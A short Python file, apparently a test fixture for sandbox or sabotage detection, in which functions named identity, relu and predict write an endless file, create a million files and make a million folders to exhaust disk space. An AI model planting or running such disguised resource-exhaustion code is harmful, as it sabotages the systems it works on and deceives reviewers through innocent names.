"""
tries: The disk: one endless file, and many small ones, below the current folder.
demand: gains nothing
"""

import os


def identity(z):
    with open("planted", "wb") as file:
        while True:
            file.write(bytes(1 << 20))


def relu(z):
    for number in range(1_000_000):
        with open(f"planted{number}", "wb") as file:
            file.write(bytes(1 << 16))


def predict(x, w, b):
    for number in range(1_000_000):
        os.mkdir(f"planted-folder{number}")
